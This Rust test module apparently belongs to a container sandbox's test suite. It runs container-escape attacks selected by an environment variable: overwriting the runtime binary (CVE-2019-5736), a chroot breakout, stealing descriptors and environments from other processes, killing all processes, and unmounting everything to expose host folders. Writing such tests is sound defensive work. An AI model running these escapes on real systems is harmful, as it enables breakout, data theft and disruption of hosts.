//! What runs inside a container: attacks by the test binary itself, chosen by the variable `ATTACK`.

use nix::libc;
use rustix::fs::{AtFlags, CWD, Mode, OFlags, RenameFlags};
use rustix::mount::{MountFlags, OpenTreeFlags};
use rustix::process::{Pid, PidfdFlags, PidfdGetfdFlags};
use std::collections::BTreeSet;
use std::fs;
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::{Duration, Instant};

/// Before each finding.
pub const FOUND: &str = "!found ";
/// Printed once the attack goes on.
pub const BEGUN: &str = "!begun";

/// Outside of a container there is nothing to do.
#[test]
fn inside_a_container_this_program_attacks() {
    let Ok(attack) = std::env::var("ATTACK") else { return };
    println!("\n{BEGUN}");
    let words: Vec<&str> = attack.split(' ').collect();
    match words[..] {
        ["binary", size, seconds] => binary(size.parse().unwrap(), seconds.parse().unwrap()),
        ["peek", seconds] => peek(seconds.parse().unwrap()),
        ["swap", a, b] => swap(a, b),
        ["chroot"] => chroot(),
        ["kill-all"] => kill_all(),
        ["stop-newcomers", seconds] => stop_newcomers(seconds.parse().unwrap()),
        ["mounts"] => mounts(),
        ["status"] => status(),
        _ => panic!("no such attack: {attack}"),
    }
}

fn found(what: &str) {
    println!("\n{FOUND}{what}");
}

fn for_seconds(seconds: u64, mut work: impl FnMut()) {
    let end = Instant::now() + Duration::from_secs(seconds);
    while Instant::now() < end {
        work();
    }
}

fn pids() -> Vec<i32> {
    let entries = fs::read_dir("/proc").unwrap().flatten();
    entries.filter_map(|e| e.file_name().to_str()?.parse().ok()).collect()
}

/// Looks for our binary, a file of this size, among the programs of all processes, holds it, and tries to change it
/// until the end (CVE-2019-5736). `ETXTBSY` would only last as long as the program runs, so what counts is a change
/// that nothing but a read-only mount refuses.
fn binary(size: u64, seconds: u64) {
    let mut held: Vec<OwnedFd> = Vec::new();
    let mut said = BTreeSet::new();
    let me = std::process::id().cast_signed();
    for_seconds(seconds, || {
        for pid in pids() {
            if pid == me {
                continue;
            }
            let Ok(fd) = rustix::fs::open(format!("/proc/{pid}/exe"), OFlags::PATH, Mode::empty()) else {
                continue;
            };
            if held.len() < 64 && rustix::fs::fstat(&fd).is_ok_and(|s| s.st_size.cast_unsigned() == size) {
                held.push(fd);
            }
        }
        for fd in &held {
            let by_proc = format!("/proc/self/fd/{}", fd.as_raw_fd());
            let opened = rustix::fs::open(by_proc.as_str(), OFlags::RDWR, Mode::empty());
            let changed = rustix::fs::chmod(by_proc.as_str(), Mode::from_raw_mode(0o777));
            let mut outcome = match (opened, changed) {
                (Err(_), Err(e)) => format!("reached: {e}"),
                _ => "writable".to_owned(),
            };
            // With CAP_SYS_ADMIN in the container: make the mount under it writable, or a copy of that mount.
            let remounted = rustix::mount::mount_remount(by_proc.as_str(), MountFlags::BIND, c"");
            let flags = OpenTreeFlags::OPEN_TREE_CLONE | OpenTreeFlags::AT_EMPTY_PATH;
            let cloned = rustix::mount::open_tree(fd, "", flags);
            if remounted.is_ok() || cloned.is_ok() {
                outcome.push_str(", its mount can be changed");
            }
            if said.insert(outcome.clone()) {
                found(&outcome);
            }
        }
    });
}

/// Looks at every process that comes: what it runs, what it has open, its environment, its memory.
fn peek(seconds: u64) {
    let before: BTreeSet<i32> = pids().into_iter().collect();
    let mut said = BTreeSet::new();
    let mut say = |what: String| {
        if said.insert(what.clone()) {
            found(&what);
        }
    };
    for_seconds(seconds, || {
        for pid in pids().into_iter().filter(|pid| !before.contains(pid)) {
            say("somebody came".to_owned());
            for link in ["exe", "cwd", "root"] {
                if let Ok(target) = fs::read_link(format!("/proc/{pid}/{link}")) {
                    say(format!("{link} {}", target.display()));
                }
            }
            if let Ok(environ) = fs::read(format!("/proc/{pid}/environ")) {
                let text = String::from_utf8_lossy(&environ);
                if text.contains(crate::cell::CANARY) {
                    say("the environment of the host".to_owned());
                }
            }
            if let Ok(maps) = fs::read_to_string(format!("/proc/{pid}/maps")) {
                for name in maps.lines().filter_map(|line| line.split_whitespace().nth(5)) {
                    say(format!("map {name}"));
                }
            }
            for entry in fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
                if let Ok(target) = fs::read_link(entry.path()) {
                    let target = target.display().to_string();
                    say(format!("fd {}", target.split(':').next().unwrap_or_default()));
                }
            }
            let Some(number) = Pid::from_raw(pid) else { continue };
            let Ok(pidfd) = rustix::process::pidfd_open(number, PidfdFlags::empty()) else { continue };
            for fd in 3..40 {
                if let Ok(stolen) = rustix::process::pidfd_getfd(&pidfd, fd, PidfdGetfdFlags::empty()) {
                    let kind = rustix::fs::fstat(&stolen).map_or(0, |s| s.st_mode & libc::S_IFMT);
                    say(format!("stole a descriptor of type {kind:o}"));
                }
            }
        }
    });
}

/// Who this process is.
fn status() {
    for line in fs::read_to_string("/proc/self/status").unwrap().lines() {
        if ["Uid", "Gid", "Cap", "NoNewPrivs"].iter().any(|name| line.starts_with(name)) {
            found(&line.replace('\t', " "));
        }
    }
}

/// Exchanges two names for ever.
fn swap(a: &str, b: &str) {
    loop {
        rustix::fs::renameat_with(CWD, a, CWD, b, RenameFlags::EXCHANGE).unwrap();
    }
}

/// The classic way out of a chroot: a folder held open outside of a new root, and `..` from there.
fn chroot() {
    let out = rustix::fs::open("/", OFlags::PATH | OFlags::DIRECTORY, Mode::empty()).unwrap();
    fs::create_dir_all("/tmp/jail").unwrap();
    rustix::process::chroot("/tmp/jail").unwrap();
    rustix::process::fchdir(&out).unwrap();
    for _ in 0..64 {
        rustix::process::chdir("..").unwrap();
    }
    rustix::process::chroot(".").unwrap();
    for entry in fs::read_dir("/").unwrap() {
        found(entry.unwrap().file_name().to_str().unwrap());
    }
}

/// Signals everything that can be signalled.
fn kill_all() {
    let all = nix::unistd::Pid::from_raw(-1);
    found(&format!("{:?}", nix::sys::signal::kill(all, nix::sys::signal::Signal::SIGKILL)));
}

/// Stops every process that comes, as soon as it comes, until so long after the first one.
fn stop_newcomers(seconds: u64) {
    let before: BTreeSet<i32> = pids().into_iter().collect();
    let mut first: Option<Instant> = None;
    while first.is_none_or(|first| first.elapsed() < Duration::from_secs(seconds)) {
        for pid in pids().into_iter().filter(|pid| !before.contains(pid)) {
            let stop = nix::sys::signal::Signal::SIGSTOP;
            if nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), stop).is_ok() {
                found("stopped");
                first.get_or_insert_with(Instant::now);
            }
        }
    }
}

/// With all that CAP_SYS_ADMIN in the container allows: takes every mount off, from the last to the first, and says
/// which folders of the host come to light.
fn mounts() {
    let table = fs::read_to_string("/proc/self/mountinfo").unwrap();
    let places: Vec<&str> = table.lines().filter_map(|line| line.split(' ').nth(4)).collect();
    for place in places.iter().rev() {
        // Also `/`: what is below the root, if there is anything, comes to light.
        let _ = rustix::mount::unmount(*place, rustix::mount::UnmountFlags::DETACH);
    }
    rustix::process::chdir("/").unwrap();
    let root = rustix::fs::statat(CWD, "/", AtFlags::empty()).unwrap();
    found(&format!("root mode {:o}", root.st_mode & 0o777));
    for entry in fs::read_dir("/").into_iter().flatten().flatten() {
        found(&format!("root entry {}", entry.file_name().to_string_lossy()));
    }
}
